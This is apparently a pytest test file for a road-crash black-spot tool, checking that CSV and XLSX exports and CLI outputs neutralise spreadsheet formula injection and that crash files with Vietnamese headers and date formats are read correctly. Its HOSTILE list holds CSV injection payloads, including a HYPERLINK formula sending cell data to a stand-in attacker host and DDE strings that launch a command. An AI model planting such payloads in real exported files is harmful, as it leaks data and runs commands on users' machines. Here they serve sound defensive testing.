"""Every spreadsheet the tool writes is safe to open: no formula cell, and no
text that a spreadsheet would run as a formula (CSV injection), while numbers
stay numbers."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from errors import BlackspotError

import cli
from services.exports import crashes_per_spot, export, hotspot_table, table_export
from services.tabular import FORMULA_START

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _unsafe(text: str) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_START)


def assert_safe_csv(data: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    bad = [v for r in rows for v in r if _unsafe(v) and not v.lstrip("+-").replace(".", "").isdigit()]
    assert not bad, bad
    return rows


def assert_safe_xlsx(data: bytes) -> openpyxl.Workbook:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not _unsafe(cell.value), (ws.title, cell.coordinate, cell.value)
    return wb


@pytest.fixture
def hostile_world(ql24_store):
    from services.blackspots import run_screening

    s = ql24_store
    run_screening(s)
    spots = s.blackspots_frame()
    spots["commune"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(spots))]
    crashes = s.crashes_frame()
    crashes["description"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(crashes))]
    crashes["source_id"] = [HOSTILE[(i + 1) % len(HOSTILE)] for i in range(len(crashes))]
    return spots, crashes


@pytest.mark.parametrize("lang", ["vi", "en"])
def test_hotspot_lists_are_safe_in_csv_and_xlsx(hostile_world, lang):
    spots, crashes = hostile_world
    table = hotspot_table(spots, lang=lang)
    rows = assert_safe_csv(export(table, "csv", lang=lang))
    assert len(rows) == len(spots) + 1
    commune_col = rows[0].index("Xã/phường" if lang == "vi" else "Commune")
    assert rows[1][commune_col] == "'" + HOSTILE[0]  # neutralised, not dropped
    per_spot = crashes_per_spot(spots, crashes)
    wb = assert_safe_xlsx(export(table, "xlsx", crashes=per_spot, lang=lang))
    assert len(wb.worksheets) == 2
    ws = wb.worksheets[0]
    heads = [c.value for c in ws[1]]
    deaths = heads.index("Số người chết" if lang == "vi" else "Deaths") + 1
    assert all(isinstance(ws.cell(r, deaths).value, int) for r in range(2, ws.max_row + 1))  # numbers stay numbers
    texts = {c.value for row in wb.worksheets[1].iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[4] in texts


def test_any_list_export_is_safe(hostile_world):
    _, crashes = hostile_world
    frame = crashes[["id", "source_id", "description", "deaths", "injured"]].head(20)
    rows = assert_safe_csv(table_export(frame, "csv"))
    assert rows[1][1] == "'" + HOSTILE[1] and rows[1][3] == str(frame["deaths"].iloc[0])
    wb = assert_safe_xlsx(table_export(frame, "xlsx", sheet="Các vụ"))
    assert wb.worksheets[0]["C2"].value == "'" + HOSTILE[0]
    assert isinstance(wb.worksheets[0]["D2"].value, int)


def test_cli_outputs_are_safe(tmp_path, monkeypatch):
    """`blackspots --out` (CSV and XLSX) with hostile crash ids, and the import report with hostile values."""
    rows = []
    for i in range(4):  # four injury crashes within 500 m: one black spot
        rows.append(
            {
                "id": HOSTILE[i],
                "road": "QL24",
                "chainage_m": 140_000 + 50 * i,
                "date": f"0{i + 1}/03/2024",
                "deaths": 0,
                "injured": 1,
            }
        )
    pd.DataFrame(rows).to_csv(tmp_path / "vu.csv", index=False)
    for ext in ("csv", "xlsx"):
        out = tmp_path / f"ds.{ext}"
        assert cli.main(["blackspots", "--crashes", str(tmp_path / "vu.csv"), "--out", str(out)]) == 0
        if ext == "csv":
            got = assert_safe_csv(out.read_bytes())
            assert len(got) == 2 and got[1][got[0].index("crash_ids")].startswith("'=HYPERLINK")
        else:
            assert_safe_xlsx(out.read_bytes())
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'kho.sqlite'}")
    bad = pd.DataFrame(
        {
            "Mã vụ": HOSTILE,
            "Ngày giờ": ["=1+1"] * len(HOSTILE),
            "Kinh độ": [105.1] * len(HOSTILE),
            "Vĩ độ": [14.5] * len(HOSTILE),
            "Số người chết": ["@x"] * len(HOSTILE),
            "Số người bị thương": [0] * len(HOSTILE),
        }
    )
    bad.to_csv(tmp_path / "xau.csv", index=False)
    report = tmp_path / "bao_cao.csv"
    assert cli.main(["import", "crashes", str(tmp_path / "xau.csv"), "--report", str(report)]) == 1
    got = assert_safe_csv(report.read_bytes())
    assert len(got) > len(HOSTILE)  # a line per bad value, all neutralised


def test_cli_blackspots_reads_a_police_file_with_its_own_headers(tmp_path, capsys):
    """`blackspots --crashes` on a file with the police's Vietnamese headers (a title row, "Km" chainages)
    gives the spots the same crashes give under English headers."""
    rows = [
        ("V1", "05/03/2024", "Km 140+000", 1, 0),
        ("V2", "15/04/2024", "Km 140+120", 1, 1),
        ("V3", "20/05/2024", "Km 140+300", 0, 2),
        ("V4", "21/05/2024", "Km 152+000", 0, 1),
    ]
    vi = pd.DataFrame(rows, columns=["Mã vụ", "Ngày xảy ra", "Lý trình", "Số người chết", "Số người bị thương"])
    vi.insert(2, "Tuyến đường", "QL24")
    en = vi.set_axis(["id", "date", "road", "chainage", "deaths", "injured"], axis=1)
    (tmp_path / "vi.csv").write_text("BÁO CÁO TAI NẠN GIAO THÔNG\n" + vi.to_csv(index=False), encoding="utf-8")
    en.to_csv(tmp_path / "en.csv", index=False)
    got = {}
    for name in ("vi", "en"):
        out = tmp_path / f"{name}.out.csv"
        assert cli.main(["blackspots", "--crashes", str(tmp_path / f"{name}.csv"), "--out", str(out)]) == 0
        got[name] = pd.read_csv(out)
    assert "1 điểm đen / black spots, 1 điểm tiềm ẩn" in capsys.readouterr().out
    pd.testing.assert_frame_equal(got["vi"], got["en"])
    assert got["vi"]["crash_ids"].tolist() == ["V1;V2;V3", "V4"]


def test_cli_blackspots_reads_counts_and_places_as_the_import_does(tmp_path):
    """A fraction of a person is refused (the import refuses it too), a decimal comma is read, and the
    rows named are the file's own lines, title rows counted."""
    head = "BÁO CÁO\nSỐ LIỆU QUÝ I\nMã vụ;Ngày xảy ra;Tuyến đường;Lý trình;Số người chết;Số người bị thương;Kinh độ;Vĩ độ\n"
    good = [
        "V1;05/03/2024;QL24;Km 140+000;1,0;0;107,914959;14,614959",
        "V2;15/04/2024;QL24;Km 140+120;1;1;107,915;14,615",
    ]
    f = tmp_path / "q1.csv"
    f.write_text(head + "\n".join(good) + "\n", encoding="utf-8")
    out = tmp_path / "o.csv"
    assert cli.main(["blackspots", "--crashes", str(f), "--out", str(out)]) == 0
    crashes = cli._read_crash_file(f)
    assert crashes["deaths"].tolist() == [1, 1]
    assert crashes["lon"].tolist() == [107.914959, 107.915] and crashes["lat"].tolist() == [14.614959, 14.615]
    f.write_text(head + "\n".join(good + ["V3;16/04/2024;QL24;Km 140+200;0;2,9;107,9;14,6"]) + "\n", encoding="utf-8")
    with pytest.raises(BlackspotError, match=r"Bad injured at rows \(a whole number, not negative\): \[6\]"):
        cli._read_crash_file(f)


def test_cli_file_commands_read_a_month_first_file_as_the_import_does(tmp_path, capsys):
    """The file commands read every d/m/y date day first and refused a month-first file (03/25/2024) that the
    import reads month first, proven by the column; a row against the proven order is named."""
    head = "Mã vụ;Ngày xảy ra;Tuyến đường;Lý trình;Số người chết;Số người bị thương\n"
    rows = [
        "V1;03/25/2024 14:30;QL24;Km 140+000;1;0",
        "V2;02/05/2024;QL24;Km 140+120;0;1",
        "V3;12/31/2023;QL24;Km 9+0;0;2",
    ]
    f = tmp_path / "us.csv"
    f.write_text(head + "\n".join(rows) + "\n", encoding="utf-8")
    crashes = cli._read_crash_file(f)
    assert [str(d) for d in crashes["occurred_at"]] == [
        "2024-03-25 14:30:00",
        "2024-02-05 00:00:00",
        "2023-12-31 00:00:00",
    ]
    assert (
        "tháng/ngày/năm (dòng 2 có phần lớn hơn 12) / The file's date order: month/day/year" in capsys.readouterr().err
    )
    f.write_text(head + "\n".join(rows + ["V4;25/03/2024;QL24;Km 140+300;0;1"]) + "\n", encoding="utf-8")
    with pytest.raises(BlackspotError, match=r"Dates against the file's order \(month/day/year\) at rows: \[5\]"):
        cli._read_crash_file(f)
    # no proof either way: day first, as before
    f.write_text(head + "V1;02/05/2024;QL24;Km 140+000;1;0\n", encoding="utf-8")
    assert str(cli._read_crash_file(f)["occurred_at"].iloc[0]) == "2024-05-02 00:00:00"
